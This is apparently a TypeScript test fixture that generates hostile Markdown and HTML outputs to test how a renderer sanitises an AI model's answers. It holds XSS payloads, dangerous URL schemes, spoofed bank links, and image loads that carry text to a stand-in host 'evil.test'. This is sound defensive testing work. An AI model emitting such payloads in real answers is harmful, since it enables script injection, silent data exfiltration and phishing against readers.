/** Addresses that no answer may make a link of. */
export const SCHEMES: readonly string[] = [
  ...[
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    ' javascript:alert(1)',
    'javascript&colon;alert(1)',
  ],
  ...['javascript&#58;alert(1)', 'javascript&#x3a;alert(1)', '&#106;avascript:alert(1)'],
  ...['java&Tab;script:alert(1)', 'java&NewLine;script:alert(1)', 'java\tscript:alert(1)'],
  ...['\u0001javascript:alert(1)', 'javascript\u200b:alert(1)', 'ｊavascript:alert(1)'],
  ...[
    'javascript://e.org/%0Aalert(1)',
    'javascript:/*https://e.org*/alert(1)',
    'vbscript:msgbox(1)',
  ],
  ...['data:text/html,<script>alert(1)</script>', 'data:text/html;base64,PHNjcmlwdD4=', 'DATA:,x'],
  ...[
    'data:image/svg+xml,<svg onload=alert(1)>',
    'blob:https://e.org/1',
    'filesystem:https://e.org/t',
  ],
  ...[
    'file:///etc/passwd',
    'ftp://e.org',
    'ws://e.org',
    'about:blank',
    'view-source:https://e.org',
  ],
  ...['chrome://settings', 'chrome-extension://abc/x.html', 'moz-extension://abc/x.html'],
  ...['intent://e.org#Intent;end', 'tel:+100', 'sms:1', 'ms-settings:', 'itms-apps://e', 'x:y'],
  ...[
    '//e.org/x',
    '/\\e.org',
    '\\\\e.org\\x',
    'https:',
    'https://',
    'http:\\',
    'https//e.org',
    '?q=1',
  ],
];

/** Ways to write an address in Markdown. */
export const FORMS: readonly ((address: string) => string)[] = [
  (address) => `[a](${address})`,
  (address) => `[a](<${address}> "t")`,
  (address) => `<${address}>`,
  (address) => `[a][r]\n\n[r]: ${address}`,
  (address) => `![a](${address})`,
  (address) => `[![a](${address})](${address})`,
  (address) => `| a |\n|---|\n| [a](${address}) |`,
];

/** Markup that an answer may hold, and that must stay text or elements of ours. */
export const SNIPPETS: readonly string[] = [
  ...['<script>alert(1)</script>', '<ScRiPt src=//e.org/x.js>', '<img src=x onerror=alert(1)>'],
  ...[
    '<svg onload=alert(1)>',
    '<svg><image href="https://e.org/x"/></svg>',
    '<math><mi>x</mi></math>',
  ],
  ...['<iframe src="https://e.org"></iframe>', '<object data=x></object>', '<embed src=x>'],
  ...[
    '<style>*{background:url(https://e.org)}</style>',
    '<link rel=stylesheet href=//e.org/x.css>',
  ],
  ...[
    '<meta http-equiv=refresh content="0;url=//e.org">',
    '<base href="//e.org/">',
    '<form action=//e.org>',
  ],
  ...[
    '<input type=image src=//e.org/x>',
    '<button formaction=javascript:x>',
    '<video poster=//e.org/x>',
  ],
  ...[
    '<audio src=//e.org/x autoplay>',
    '<table background=//e.org/x>',
    '<p style="background:url(//e.org)">',
  ],
  ...['<a href="javascript:alert(1)">x</a>', '<a href=x onclick=y>', '<details open ontoggle=x>'],
  ...[
    '<div><!--<img src=x>--></div>',
    '<![CDATA[<img src=x>]]>',
    '<?xml?><x:script/>',
    '<!DOCTYPE html>',
  ],
  ...['<noscript><p title="</noscript><img src=x onerror=y>">', '<template><img src=x></template>'],
  ...['<textarea></textarea><img src=x>', '<br onload=x>', '<br/onclick=x>', '<br style=x>'],
  ...[
    '&lt;img src=x onerror=y&gt;',
    '&#60;script&#62;',
    '`<img src=x>`',
    '```html\n<img src=x>\n```',
  ],
  ...[
    '    <img src=x>',
    '# <img src=x>',
    '- <img src=x>',
    '> <img src=x>',
    '| <img src=x> |\n|---|',
  ],
  ...['```"><img src=x>\nx\n```', '```js onload=x\ny\n```', '[a](https://e.org "><img src=x>")'],
  ...[
    '[<img src=x>](https://e.org)',
    '![<img src=x>](https://e.org/x)',
    '[a](https://e.org" onclick=x)',
  ],
  ...[
    "[a](https://e.org' onclick=x)",
    '[a]: https://e.org "t\n[a]',
    '[__proto__]\n\n[__proto__]: x:y',
  ],
  ...['[constructor]', '[a][toString]', '[__proto__][hasOwnProperty]', '3. <li>\n99999999999. x'],
];

/** Where a text could be carried to. */
const THERE = 'https://evil.test/take?it=';

/** Ways to make a reader's browser ask for an address without a click. */
const LOADS: readonly string[] = [
  ...[`![x](${THERE}1)`, `![x][i]\n\n[i]: ${THERE}2`, `![i2]\n\n[i2]: ${THERE}3`],
  ...[`![](${THERE}4 "t")`, `[![x](${THERE}5)](${THERE}6)`, `![x](<${THERE}7>)`],
  ...[`![x](//evil.test/8)`, `![x](http://evil.test:8080/9)`, `![x](HTTPS://EVIL.test/10)`],
  ...[
    'img src srcset sizes',
    'img src loading',
    'source srcset',
    'video src autoplay',
    'video poster',
    'audio src autoplay',
    'track src default',
    'iframe src',
    'iframe srcdoc',
    'frame src',
    'embed src',
    'object data',
    'applet code',
    'link rel=stylesheet href',
    'link rel=preload as=image href',
    'link rel=prefetch href',
    'link rel=dns-prefetch href',
    'link rel=preconnect href',
    'link rel=icon href',
    'link rel=manifest href',
    'script src',
    'script type=module src',
    'script type=speculationrules',
    'input type=image src',
    'body background',
    'table background',
    'td background',
    'base href',
    'meta http-equiv=refresh content',
    'form action',
    'button formaction',
    'isindex action',
    'a href ping',
    'area href',
    'image xlink:href',
    'svg href',
    'use href',
    'feImage href',
    'animate xlink:href',
    'bgsound src',
    'portal src',
    'fencedframe src',
    'p style=background:url()',
    'div style=list-style:url()',
    'q cite',
    'ins cite',
    'html manifest',
    'menuitem icon',
  ].map((words, index) => {
    const [tag, ...names] = words.split(' ');
    return `<${tag} ${names.map((name) => `${name}="${THERE}${index}"`).join(' ')}>x</${tag}>`;
  }),
];

const HANDLERS =
  'onload onerror onclick onmouseover onfocus onblur ontoggle onanimationstart onpointerenter onbegin onwheel onpaste'.split(
    ' ',
  );

/** Code in what runs by itself or at a touch. */
const RUNS: readonly string[] = ['img', 'svg', 'details', 'body'].flatMap((tag) =>
  HANDLERS.map((handler) => `<${tag} ${handler}="alert(1)" src=x open autofocus tabindex=0>x`),
);

/** What only looks like something else. */
const LOOKS: readonly string[] = [
  ...['\u202e', '\u2066', '\u2067', '\u2068', '\u200f', '\u061c'].flatMap((sign) => [
    `price ${sign}0001$`,
    `[https://bank.test${sign}](https://evil.test/)`,
  ]),
  ...['[https://bank.test](https://evil.test/)', '[bank.test](https://bank.test.evil.test/)'],
  ...['https://bank.test@evil.test/', '[x](https://bank.test@evil.test/)', 'https://bаnk.test/'],
  ...['[x](https://xn--bnk-5cd.test/)', '\u{e0041}\u{e0042}\u{e007f}', 'a\u200bb\u2060c\ufeffd'],
  ...['\u0000\u0007\u001b[31mred\u001b[0m', 'e\u0301'.repeat(200), '🏴'.repeat(100)],
];

/** Much of one thing. */
const MUCH: readonly string[] = [
  ...['> ', '- ', '1. '].map((mark) => `${mark.repeat(60)}deep`),
  ...['*', '_', '~', '`', '[', '![', '<', '&', '|'].map((mark) => `x${mark.repeat(300)}x`),
  `|${'a|'.repeat(100)}\n|${'-|'.repeat(100)}\n|${'<b>|'.repeat(100)}`,
  `[a]${'[a]'.repeat(100)}`,
  `${'a'.repeat(2000)}`,
];

/** At least 400 answers of a model that wants harm. */
export const hostileOutputs: readonly string[] = [
  ...new Set([
    ...SCHEMES.flatMap((address) => FORMS.map((form) => form(address))),
    ...SNIPPETS,
    ...LOADS,
    ...RUNS,
    ...LOOKS,
    ...MUCH,
  ]),
];
